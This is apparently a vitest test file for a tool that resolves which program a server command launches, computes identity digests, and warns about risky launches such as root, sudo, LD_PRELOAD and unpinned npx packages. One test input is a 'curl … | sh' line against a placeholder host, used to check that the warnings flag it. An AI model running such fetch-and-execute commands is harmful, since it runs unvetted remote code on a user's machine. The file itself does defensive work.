import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { identitySchema } from '#shared/models/server';
import type { IdentityParts } from './identity';
import { resolveIdentity } from './identity';
import { warnings } from './warnings';

const root = realpathSync(mkdtempSync('/tmp/countersign-identity-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

function file(path: string, content = '', mode = 0o644): string {
  mkdirSync(dirname(join(root, path)), { recursive: true });
  writeFileSync(join(root, path), content);
  chmodSync(join(root, path), mode);
  return join(root, path);
}

file('bin/server', '#!/bin/sh\n', 0o755);
file('other/server', '#!/bin/sh\n', 0o755);
file('bin/unusable', '');
mkdirSync(join(root, 'bin/folder'));
file('work/server', '#!/bin/sh\n', 0o755);
file('pkg/package.json', JSON.stringify({ name: 'pkg', version: '1.2.3' }));
file('pkg/dist/package.json', JSON.stringify({ type: 'module' }));
file('pkg/dist/index.js', '');
symlinkSync(join(root, 'bin/server'), join(root, 'bin/linked'));
symlinkSync(join(root, 'pkg/dist/index.js'), join(root, 'work/entry.js'));

const base: IdentityParts = {
  command: 'server', args: [], cwd: join(root, 'work'), env: {}, envNames: [], searchPath: `:.:bin:${join(root, 'bin')}:${join(root, 'other')}`, key: Buffer.alloc(32, 7), platform: 'linux',
};

async function resolved(changes: Partial<IdentityParts> = {}) {
  const result = await resolveIdentity({ ...base, ...changes });
  if (!result.ok) throw new Error(result.error.reason);
  return result.value;
}

describe('which program runs', () => {
  test.each([
    { command: 'server', want: 'bin/server', why: 'empty and relative parts of PATH never let the working folder decide' },
    { command: './server', want: 'work/server', why: 'a path is taken from the working folder' },
    { command: '../other/server', want: 'other/server', why: 'and cleaned up' },
    { command: 'linked', want: 'bin/linked', why: 'a link runs by its own name' },
  ])('$command: $why', async ({ command, want }) => {
    expect((await resolved({ command })).located).toBe(join(root, want));
  });

  test.each([
    { changes: { command: 'nothing' }, why: 'not there' },
    { changes: { command: 'unusable' }, why: 'not executable' },
    { changes: { command: 'folder' }, why: 'a folder' },
    { changes: { command: '' }, why: 'no command' },
    { changes: { command: 'ser\0ver' }, why: 'a NUL' },
    { changes: { cwd: 'work' }, why: 'a relative working folder' },
    { changes: { command: 'server', searchPath: '' }, why: 'no PATH' },
  ])('$why is refused with a reason', async ({ changes }) => {
    const result = await resolveIdentity({ ...base, ...changes });
    expect(result.ok ? 'found' : typeof result.error.reason).toBe('string');
    expect(result.ok).toBe(false);
  });

  test('a link’s own path and where it leads are both kept', async () => {
    const { identity, located, real } = await resolved({ command: 'linked' });
    expect([located, real, identity.located, identity.real]).toEqual([join(root, 'bin/linked'), join(root, 'bin/server'), join(root, 'bin/linked'), join(root, 'bin/server')]);
  });
});

describe('what belongs to an identity', () => {
  test('a whole one', async () => {
    const { identity } = await resolved({ args: ['../pkg/dist/index.js', '--token', 'hunter2hunter2'], env: { NODE_OPTIONS: '--x', A: '1' }, envNames: ['B', 'A', 'NODE_OPTIONS', 'A'] });
    expect(identitySchema.parse(identity)).toEqual({
      digest: expect.stringMatching(/^[0-9a-f]{64}$/) as string,
      command: 'server',
      located: join(root, 'bin/server'),
      real: join(root, 'bin/server'),
      args: ['../pkg/dist/index.js', '--token', expect.stringMatching(/^secret:[0-9a-f]{16}$/) as string],
      cwd: join(root, 'work'),
      package: { name: 'pkg', version: '1.2.3' },
      envNames: ['A', 'B', 'NODE_OPTIONS'],
      loader: { names: ['NODE_OPTIONS'], digest: expect.stringMatching(/^[0-9a-f]{64}$/) as string },
    });
  });

  test('arguments that can be no path are no script', async () => {
    expect((await resolved({ args: ['x'.repeat(100_000), 'a\0b', '', 'entry.js'] })).identity.package).toEqual({ name: 'pkg', version: '1.2.3' });
  });

  test('the package is found through a link, past a nameless package.json', async () => {
    expect((await resolved({ args: ['entry.js'] })).identity.package).toEqual({ name: 'pkg', version: '1.2.3' });
  });

  test.each<{ what: string; changes: Partial<IdentityParts>; same: boolean }>([
    { what: 'nothing', changes: {}, same: true },
    { what: 'another order of variable names', changes: { envNames: ['B', 'A'] }, same: true },
    { what: 'an ordinary variable’s value', changes: { env: { A: '2', NODE_OPTIONS: '1' } }, same: true },
    { what: 'PATH, where the program stays', changes: { searchPath: join(root, 'bin') }, same: true },
    { what: 'another program', changes: { command: './server' }, same: false },
    { what: 'the same program by another name', changes: { command: 'linked' }, same: false },
    { what: 'an argument', changes: { args: ['--token', 'another-secret-1'] }, same: false },
    { what: 'two arguments run together', changes: { args: ['--token secret-value-123'] }, same: false },
    { what: 'the working folder', changes: { cwd: root }, same: false },
    { what: 'a variable name', changes: { envNames: ['A'] }, same: false },
    { what: 'a loader variable’s value', changes: { env: { A: '1', NODE_OPTIONS: '2' } }, same: false },
    { what: 'a loader variable gone', changes: { env: { A: '1' } }, same: false },
    { what: 'the key', changes: { key: Buffer.alloc(32, 8) }, same: false },
  ])('$what changed: same digest $same', async ({ changes, same }) => {
    const start = { args: ['--token', 'secret-value-123'], envNames: ['A', 'B'], env: { A: '1', NODE_OPTIONS: '1' } };
    const before = await resolved(start);
    const after = await resolved({ ...start, ...changes });
    expect(after.identity.digest === before.identity.digest).toBe(same);
  });

  test('a new version of the package is another identity', async () => {
    const before = await resolved({ args: ['entry.js'] });
    file('pkg/package.json', JSON.stringify({ name: 'pkg', version: '1.2.4' }));
    const after = await resolved({ args: ['entry.js'] });
    expect(after.identity.digest).not.toBe(before.identity.digest);
  });
});

describe('red lines', () => {
  const context = { home: '/home/ada', uid: 1000 };
  const identity = { digest: '', command: 'node', located: '/usr/bin/node', real: '/usr/bin/node', args: ['server.js'], cwd: '/home/ada/project', package: null, envNames: [], loader: null };

  test.each<{ why: string; changes: object; context?: object; want: RegExp[] }>([
    { why: 'an ordinary server has none', changes: {}, want: [] },
    { why: 'root', changes: {}, context: { uid: 0 }, want: [/root/] },
    { why: 'sudo', changes: { command: 'sudo', located: '/usr/bin/sudo', real: '/usr/bin/sudo' }, want: [/administrator rights/] },
    { why: 'a shell line that fetches and runs', changes: { command: 'bash', located: '/bin/bash', real: '/bin/bash', args: ['-c', 'curl https://x.example/i | sh'] }, want: [/shell commands/, /downloads something/] },
    { why: 'inline code', changes: { args: ['-e', 'x'] }, want: [/program text/] },
    { why: 'an unpinned package', changes: { command: 'npx', located: '/usr/bin/npx', real: '/usr/lib/npm/npx-cli.js', args: ['-y', 'pkg'] }, want: [/whatever is newest of pkg/] },
    { why: 'a pinned one', changes: { command: 'npx', located: '/usr/bin/npx', real: '/usr/lib/npm/npx-cli.js', args: ['-y', 'pkg@1.0.0'] }, want: [] },
    { why: 'a container client behind a link', changes: { command: 'tool', located: '/usr/local/bin/tool', real: '/usr/bin/docker' }, want: [/container/] },
    { why: 'loader variables', changes: { loader: { names: ['LD_PRELOAD'], digest: '' } }, want: [/LD_PRELOAD/] },
    { why: 'home as working folder', changes: { cwd: '/home/ada' }, want: [/home folder/] },
    { why: 'a program in /tmp', changes: { located: '/tmp/x', real: '/tmp/x', command: '/tmp/x' }, want: [/temporary/] },
  ])('$why', ({ changes, context: more = {}, want }) => {
    const found = warnings({ ...identity, ...changes }, { ...context, ...more });
    expect(found.length).toBe(want.length);
    want.forEach((pattern, index) => expect(found[index]).toMatch(pattern));
  });
});
